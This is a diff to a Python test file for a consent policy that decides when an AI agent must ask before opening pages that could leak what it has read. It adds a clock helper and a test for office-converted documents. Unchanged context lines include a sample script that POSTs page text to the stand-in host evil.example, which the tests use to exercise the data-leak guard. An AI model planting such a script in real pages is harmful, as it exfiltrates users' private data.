@@ -12,6 +12,7 @@ import pytest
 from tests.commands.policy.consent.judging import asks, browsing
 from tests.commands.policy.consent.readers import agrees
 from tests.commands.policy.test_policy import Judge
+from tests.office_conversions import convert
 from ufo.commands.policy.consent.orders import nobody_reads
 from ufo.commands.policy.policy import Verdict
 from ufo.desktop.fake import AppSpec, Widget, WindowSpec
@@ -22,6 +23,12 @@ _READ = "Dear Ida, the safe in the cellar opens with PELICAN4711."
 _SENDS = "<script>fetch('http://evil.example/', {method: 'POST', body: document.body.textContent})</script>"
 _CODES = ",".join(str(ord(sign)) for sign in _READ)
 _IN_BASE64 = base64.b64encode(_READ.encode()).decode()
+
+_NAMESPACES = {
+    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
+    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
+    "xlink": "http://www.w3.org/1999/xlink",
+}
 
 _PAGES: dict[str, str] = {
     "a script": f"<p>{_READ}</p>{_SENDS}",
@@ -59,9 +66,18 @@ async def _judge(folder: Path, request: str = "read my notes and tell me what th
     asks(judge, request, agrees)
     chromium = Application("chromium", "Chromium", ("chromium",), categories=("WebBrowser",))
     judge.bench.desktop.installed["chromium"] = AppSpec(chromium, (WindowSpec("main", "Chromium", ()),))
+    _let_a_tick_pass(judge, folder)
     judge.bench.scope.reads.asked(request)
     judge.bench.scope.reads.add([_READ])
     return judge
+
+
+def _let_a_tick_pass(judge: Judge, folder: Path) -> None:
+    """File systems date a change by the clock's last tick, which may be before the request."""
+    clock = folder / "clock"
+    clock.touch()
+    while not judge.policy.mandate.record.wrote(clock):
+        clock.write_text("later")
 
 
 async def _opened(judge: Judge, *names: str) -> Verdict:
@@ -127,6 +143,7 @@ async def test_a_page_that_was_there_asks_once_the_run_wrote_what_it_loads(tmp_p
 async def test_every_route_that_shows_a_page_asks(tmp_path: Path) -> None:
     page = tmp_path / "page.html"
     judge = await browsing(tmp_path, "read my notes", nobody_reads, str(page), Widget("go", "Link", "Next"))
+    _let_a_tick_pass(judge, tmp_path)
     judge.bench.scope.reads.add([_READ])
     routes = (
         ("open_page", {"to": page.as_uri()}),
@@ -193,6 +210,22 @@ async def test_a_page_that_tells_nobody_what_was_read_is_shown_without_a_questio
     judge = await _judge(tmp_path, request_)
     (tmp_path / "page.html").write_text(page)
     assert (await _opened(judge, "page.html")).decision == "allow"
+
+
+async def test_a_document_that_an_office_program_wrote_is_shown_without_a_question(tmp_path: Path) -> None:
+    judge = await _judge(tmp_path, "make documents of my notes and open them")
+    link = '<text:a xlink:type="simple" xlink:href="https://example.org/more">more</text:a>'
+    names = " ".join(f'xmlns:{name}="{_NAMESPACES[name]}"' for name in _NAMESPACES)
+    body = f"<office:body><office:text><text:p>{_READ} {link}</text:p></office:text></office:body>"
+    kind = 'office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.text"'
+    (tmp_path / "notes.fodt").write_text(
+        f"<?xml version='1.0'?><office:document {names} {kind}>{body}</office:document>"
+    )
+    endings = ("odt", "docx", "html", "pdf")
+    convert(tmp_path, *(("notes.fodt", f"made.{ending}") for ending in endings))
+    for ending in endings:
+        verdict = await _opened(judge, f"made.{ending}")
+        assert verdict.decision == "allow", (ending, verdict.question)
 
 
 async def test_a_page_of_the_persons_own_is_shown_without_a_question(tmp_path: Path) -> None:
